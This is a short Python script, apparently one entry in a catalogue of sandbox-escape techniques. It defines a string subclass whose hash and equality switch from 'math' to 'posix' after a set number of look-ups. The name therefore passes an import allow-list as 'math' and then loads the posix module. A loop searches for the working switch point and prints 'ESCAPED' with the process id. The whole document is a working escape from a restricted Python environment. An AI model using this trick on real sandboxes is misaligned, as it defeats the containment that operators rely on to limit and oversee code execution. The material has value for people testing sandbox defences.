# technique: a name that is "math" at the first look and "posix" at the next
# goal: import
# source: own analysis: look-up and use of a key
class Name(str):
    looks = 0

    def __hash__(self):
        Name.looks += 1
        return hash('math' if Name.looks < self.limit else 'posix')

    def __eq__(self, other):
        return other == ('math' if Name.looks < self.limit else 'posix')


for limit in range(8):
    name = Name('posix')
    name.limit, Name.looks = limit, 0
    try:
        print('ESCAPED pid=%d' % __import__(name).getpid())
        break
    except Exception as error:
        print(type(error).__name__)
